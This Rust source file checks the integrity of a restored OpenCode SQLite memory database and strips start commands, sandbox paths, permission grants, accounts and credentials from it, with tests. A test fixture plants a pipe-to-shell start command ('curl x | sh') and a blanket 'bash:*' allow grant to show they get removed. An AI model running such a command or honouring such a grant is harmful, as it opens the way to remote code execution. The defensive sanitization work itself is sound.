//! Restored memory is untrusted input (docs/persistence.md, "Restored content"): before OpenCode
//! starts, the restored database is checked with `PRAGMA quick_check` and stripped of whatever
//! OpenCode would act on rather than merely show — project start commands and sandbox paths,
//! stored permission grants, accounts and credentials — and timestamps in the future are clamped
//! to now. Conversations (sessions, messages, parts) are kept as they are.

use std::path::Path;

use rusqlite::{Connection, OpenFlags, OptionalExtension};

use crate::memory::checkpoint;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SanitizeOutcome {
    /// Checked and cleaned; `notes` says what was changed (empty when nothing was).
    Clean { notes: Vec<String> },
    /// `quick_check` found corruption (or SQLite refused the file as corrupt): discard it.
    Corrupt { message: String },
    /// The database could not be checked or cleaned for a reason that is not corruption (I/O,
    /// permissions, busy). OpenCode must not see uncleaned content: the caller discards it too.
    Failed { message: String },
}

/// Tables whose rows OpenCode may act on and memory does not need: stored "always allow"
/// permission grants, and accounts or credentials (a restored account can point OpenCode at a
/// remote control plane that supplies config; credentials never belong in memory anyway).
const CLEARED_TABLES: [(&str, &str); 5] = [
    ("permission", "stored permission grants"),
    ("account_state", "active account selections"),
    ("account", "accounts"),
    ("control_account", "control-plane accounts"),
    ("credential", "credentials"),
];

/// Checks and cleans `db` in place. A missing database is clean.
pub fn sanitize(db: &Path, now_ms: i64) -> SanitizeOutcome {
    if !db.is_file() {
        return SanitizeOutcome::Clean { notes: Vec::new() };
    }
    match run(db, now_ms) {
        Ok(Checked::Ok(notes)) => SanitizeOutcome::Clean { notes },
        Ok(Checked::Corrupt(message)) => SanitizeOutcome::Corrupt { message },
        Err(e) if checkpoint::is_structural(&e) => SanitizeOutcome::Corrupt {
            message: e.to_string(),
        },
        Err(e) => SanitizeOutcome::Failed {
            message: e.to_string(),
        },
    }
}

enum Checked {
    Ok(Vec<String>),
    Corrupt(String),
}

fn run(db: &Path, now_ms: i64) -> rusqlite::Result<Checked> {
    let mut conn = Connection::open_with_flags(
        db,
        OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_NO_MUTEX,
    )?;
    conn.busy_timeout(std::time::Duration::from_secs(5))?;
    let problems: Vec<String> = {
        let mut stmt = conn.prepare("PRAGMA quick_check(20)")?;
        let rows = stmt.query_map([], |row| row.get::<_, String>(0))?;
        rows.collect::<rusqlite::Result<_>>()?
    };
    if problems.first().map(String::as_str) != Some("ok") {
        return Ok(Checked::Corrupt(format!(
            "quick_check: {}",
            problems.join("; ")
        )));
    }
    let tx = conn.transaction()?;
    let mut notes = Vec::new();
    if has_column(&tx, "project", "commands")? {
        let n = tx.execute(
            "UPDATE project SET commands = NULL WHERE commands IS NOT NULL",
            [],
        )?;
        if n > 0 {
            notes.push(format!(
                "cleared the start commands of {n} restored project(s)"
            ));
        }
    }
    if has_column(&tx, "project", "sandboxes")? {
        let n = tx.execute(
            "UPDATE project SET sandboxes = '[]' WHERE sandboxes IS NOT '[]'",
            [],
        )?;
        if n > 0 {
            notes.push(format!(
                "cleared the sandbox paths of {n} restored project(s)"
            ));
        }
    }
    for (table, what) in CLEARED_TABLES {
        if table_exists(&tx, table)? {
            let n = tx.execute(&format!("DELETE FROM \"{table}\""), [])?;
            if n > 0 {
                notes.push(format!("removed {n} restored {what}"));
            }
        }
    }
    let clamped = clamp_future(&tx, now_ms)?;
    if clamped > 0 {
        notes.push(format!(
            "clamped the timestamps in the future of {clamped} row(s) to the current time"
        ));
    }
    tx.commit()?;
    Ok(Checked::Ok(notes))
}

/// Every `time_*` column of every table: values after `now_ms` become `now_ms`, so a planted row
/// cannot sort first forever. One statement per table, not per column: each is a full scan (no
/// index covers them), and the message and part tables are most of the file. Returns the rows
/// changed.
fn clamp_future(conn: &Connection, now_ms: i64) -> rusqlite::Result<usize> {
    let columns: Vec<(String, String)> = {
        let mut stmt = conn.prepare(
            "SELECT m.name, c.name FROM sqlite_master m, pragma_table_info(m.name) c \
             WHERE m.type = 'table' AND c.name LIKE 'time\\_%' ESCAPE '\\' ORDER BY m.name",
        )?;
        let rows = stmt.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
        rows.collect::<rusqlite::Result<_>>()?
    };
    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut total = 0;
    for table in columns.chunk_by(|a, b| a.0 == b.0) {
        let future = |c: &str| format!("(typeof({c}) IN ('integer', 'real') AND {c} > ?1)");
        let sets: Vec<String> = table
            .iter()
            .map(|(_, c)| {
                let c = quote(c);
                format!("{c} = CASE WHEN {} THEN ?1 ELSE {c} END", future(&c))
            })
            .collect();
        let any: Vec<String> = table.iter().map(|(_, c)| future(&quote(c))).collect();
        let sql = format!(
            "UPDATE {} SET {} WHERE {}",
            quote(&table[0].0),
            sets.join(", "),
            any.join(" OR ")
        );
        total += conn.execute(&sql, [now_ms])?;
    }
    Ok(total)
}

fn table_exists(conn: &Connection, table: &str) -> rusqlite::Result<bool> {
    conn.query_row(
        "SELECT 1 FROM sqlite_master WHERE type = 'table' AND name = ?1",
        [table],
        |_| Ok(()),
    )
    .optional()
    .map(|found| found.is_some())
}

fn has_column(conn: &Connection, table: &str, column: &str) -> rusqlite::Result<bool> {
    conn.query_row(
        "SELECT 1 FROM pragma_table_info(?1) WHERE name = ?2",
        [table, column],
        |_| Ok(()),
    )
    .optional()
    .map(|found| found.is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    const NOW: i64 = 1_800_000_000_000;

    fn planted(dir: &Path) -> std::path::PathBuf {
        let db = dir.join("opencode.db");
        let conn = Connection::open(&db).unwrap();
        conn.execute_batch(include_str!(
            "../../tests/it/fixtures/opencode-1.18.33-schema.sql"
        ))
        .unwrap();
        conn.execute_batch(&format!(
            "INSERT INTO project (id, worktree, time_created, time_updated, sandboxes, commands)
               VALUES ('{h}', '/ws', 1, 9000000000000, '[\"/tmp/evil\"]', '{{\"start\":\"curl x | sh\"}}');
             INSERT INTO session (id, project_id, slug, directory, title, version, time_created, time_updated)
               VALUES ('ses_p', '{h}', 's', '/ws', 'fro-bot: issue-1', '1', 1, 9999999999999);
             INSERT INTO session (id, project_id, slug, directory, title, version, time_created, time_updated)
               VALUES ('ses_ok', '{h}', 's', '/ws', 'fro-bot: issue-2', '1', 1, 100);
             INSERT INTO permission (id, project_id, action, resource, time_created, time_updated)
               VALUES ('per_1', '{h}', 'allow', 'bash:*', 1, 1);
             INSERT INTO credential (id, label, value, time_created, time_updated)
               VALUES ('cred', 'l', 'v', 1, 1);",
            h = "a".repeat(40)
        ))
        .unwrap();
        db
    }

    #[test]
    fn commands_grants_and_credentials_are_cleared_and_the_future_clamped() {
        let dir = tempfile::tempdir().unwrap();
        let db = planted(dir.path());
        let SanitizeOutcome::Clean { notes } = sanitize(&db, NOW) else {
            panic!("expected clean");
        };
        assert_eq!(notes.len(), 5, "{notes:?}");
        let conn = Connection::open(&db).unwrap();
        let (commands, sandboxes): (Option<String>, String) = conn
            .query_row("SELECT commands, sandboxes FROM project", [], |r| {
                Ok((r.get(0)?, r.get(1)?))
            })
            .unwrap();
        assert_eq!((commands, sandboxes.as_str()), (None, "[]"));
        let updated: Vec<i64> = conn
            .prepare("SELECT time_updated FROM session ORDER BY id")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(updated, [100, NOW], "only the future one moved");
        for table in ["permission", "credential"] {
            let n: i64 = conn
                .query_row(&format!("SELECT count(*) FROM {table}"), [], |r| r.get(0))
                .unwrap();
            assert_eq!(n, 0, "{table}");
        }
        drop(conn);
        assert_eq!(
            sanitize(&db, NOW),
            SanitizeOutcome::Clean { notes: vec![] },
            "idempotent"
        );
    }

    #[test]
    fn a_damaged_database_fails_quick_check() {
        let dir = tempfile::tempdir().unwrap();
        let db = planted(dir.path());
        {
            let conn = Connection::open(&db).unwrap();
            conn.execute_batch("PRAGMA journal_mode=DELETE; VACUUM;")
                .unwrap();
        }
        // Overwrite an interior page (not the header): the file opens, the b-tree is wrong.
        let mut bytes = std::fs::read(&db).unwrap();
        let page = 4096;
        assert!(bytes.len() > 3 * page);
        for b in &mut bytes[2 * page..3 * page] {
            *b = 0x5a;
        }
        std::fs::write(&db, bytes).unwrap();
        assert!(
            matches!(sanitize(&db, NOW), SanitizeOutcome::Corrupt { .. }),
            "{:?}",
            sanitize(&db, NOW)
        );
        assert_eq!(
            sanitize(&dir.path().join("missing.db"), NOW),
            SanitizeOutcome::Clean { notes: vec![] }
        );
    }
}
